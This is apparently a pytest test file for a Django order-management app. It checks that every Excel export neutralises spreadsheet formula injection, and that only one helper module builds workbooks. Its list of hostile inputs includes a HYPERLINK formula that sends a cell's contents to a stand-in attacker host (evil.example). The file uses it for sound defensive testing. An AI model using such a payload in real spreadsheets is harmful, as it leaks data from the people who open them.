"""Spreadsheets carry text, not formulas: every Excel export, through the one helper."""

from __future__ import annotations

import ast
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from stemlink.orders.models import FeeEntry
from stemlink.web.exports import workbook_bytes
from tests.factories import make_customer
from tests.stemlink.web.orders_world import web_order_invoice

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&K2,"Fleur")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]
# Every view that answers a spreadsheet, by URL name: a new export must be added here (and so
# tested), or `test_every_export_view_is_listed` fails.
CUSTOMER_EXPORTS = {"web:customers_export", "web:fees_export"}
# Setup's master-data lists: each exports its records' own text (a product's description, …).
MASTER_DATA_EXPORTS = {
    f"web:{slug}_export": field
    for slug, field in {
        "products": "description",
        "categories": "name",
        "box-types": "description",
        "carriers": "name",
        "growers": "name",
        "locations": "name",
    }.items()
}
EXPORT_VIEWS = CUSTOMER_EXPORTS | set(MASTER_DATA_EXPORTS) | {"web:inventory_export"}
# Modules that read spreadsheets (imports) but never write one: no Workbook, no csv writer.
READERS = {"imports.py"}
SRC = Path(__file__).resolve().parents[3] / "src"


def _cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_helper_writes_formula_like_text_as_a_text_cell(text):
    cells = _cells(workbook_bytes("T", [text, "n", "d", "m"], [[text, 12, Decimal("1.50"), -3]]))
    found = [c for c in cells if c.value in (text, text.replace("\r", "\n"))]  # XML reads \r as \n
    assert len(found) == 2  # the header and the row
    assert all(c.data_type == "s" for c in found)
    numbers = [c for c in cells if c.value in (12, -3)]
    assert [c.data_type for c in numbers] == ["n", "n"]  # numbers stay numbers


def test_control_characters_xml_cannot_hold_do_not_break_an_export():
    cells = _cells(workbook_bytes("T", ["Name"], [["Rosa\x0b\x01 Bella"]]))
    assert cells[1].value == "Rosa Bella"


def _exported_cells(admin_client, name: str) -> list:
    response = admin_client.get(reverse(name))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return _cells(b"".join(response.streaming_content))


@pytest.mark.parametrize("text", HOSTILE[:4])
def test_every_export_view_writes_a_hostile_customer_name_as_text(admin_client, world, text):
    customer = make_customer(world.company, name=text, code="EVIL")
    invoice = web_order_invoice(world, customer=customer)
    assert FeeEntry.objects.filter(invoice=invoice).exists()  # the fees export has its row
    for name in sorted(CUSTOMER_EXPORTS):
        cells = [c for c in _exported_cells(admin_client, name) if c.value == text]
        assert cells, f"{name} did not export the customer's name"
        assert all(c.data_type == "s" for c in cells), name


@pytest.mark.parametrize("text", HOSTILE[:2])
def test_every_master_data_export_writes_hostile_text_as_text(admin_client, world, text):
    records = {
        "products": world.product,
        "categories": world.roses,
        "box-types": world.hb,
        "carriers": world.carrier,
        "growers": world.vendor,
        "locations": world.location,
    }
    for name, field in sorted(MASTER_DATA_EXPORTS.items()):
        record = records[name.removeprefix("web:").removesuffix("_export")]
        setattr(record, field, text)
        record.save()
        cells = [c for c in _exported_cells(admin_client, name) if c.value == text]
        assert cells, f"{name} did not export the record's {field}"
        assert all(c.data_type == "s" for c in cells), name


def test_the_inventory_export_hides_costs_from_reps_and_is_not_imported_twice_by_mistake(
    admin_client, rep_client, world
):
    from io import BytesIO

    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.factories import make_line

    line = make_line(world, awb="=1+1", reserved_for=None)
    cells = _exported_cells(admin_client, "web:inventory_export")
    assert next(c for c in cells if c.value == "=1+1").data_type == "s"
    assert "Unit cost" in [c.value for c in cells]
    rep_cells = [c.value for c in _exported_cells(rep_client, "web:inventory_export")]
    assert "Unit cost" not in rep_cells and line.pk in rep_cells
    # Importing the export as it is would put the same boxes on hand again: its extra columns
    # make the import refuse it, naming the first one.
    exported = b"".join(admin_client.get(reverse("web:inventory_export")).streaming_content)
    preview = admin_client.post(
        "/setup/import/inventory/",
        {"action": "upload", "file": SimpleUploadedFile("back.xlsx", BytesIO(exported).getvalue())},
    )
    assert preview.status_code == 400 and "Line ID" in preview.content.decode()


def _url_names(resolver: URLResolver | None = None, prefix: str = "") -> set[str]:
    names: set[str] = set()
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            space = f"{prefix}{entry.namespace}:" if entry.namespace else prefix
            names |= _url_names(entry, space)
        elif (
            isinstance(entry, URLPattern)
            and entry.name
            and ("xlsx" in str(entry.pattern) or "export" in entry.name)
        ):
            names.add(prefix + entry.name)
    return names


def test_every_export_view_is_listed():
    assert _url_names() == EXPORT_VIEWS


def test_only_the_export_helper_builds_workbooks():
    """No module but `stemlink/web/exports.py` may use openpyxl, so no export can skip the helper."""
    offenders = []
    for path in list((SRC / "stemlink").rglob("*.py")) + list((SRC / "marketplace").rglob("*.py")):
        if path.name == "exports.py" and path.parent.name == "web":
            continue
        source = path.read_text()
        if path.name in READERS and path.parent.name == "web":
            assert "Workbook(" not in source and "writer(" not in source, path
            continue
        tree = ast.parse(source)
        for node in ast.walk(tree):
            modules = (
                [alias.name for alias in node.names]
                if isinstance(node, ast.Import)
                else [node.module or ""]
                if isinstance(node, ast.ImportFrom)
                else []
            )
            if any(m.split(".")[0] in {"openpyxl", "xlsxwriter", "csv"} for m in modules):
                offenders.append(str(path.relative_to(SRC)))
    assert offenders == []
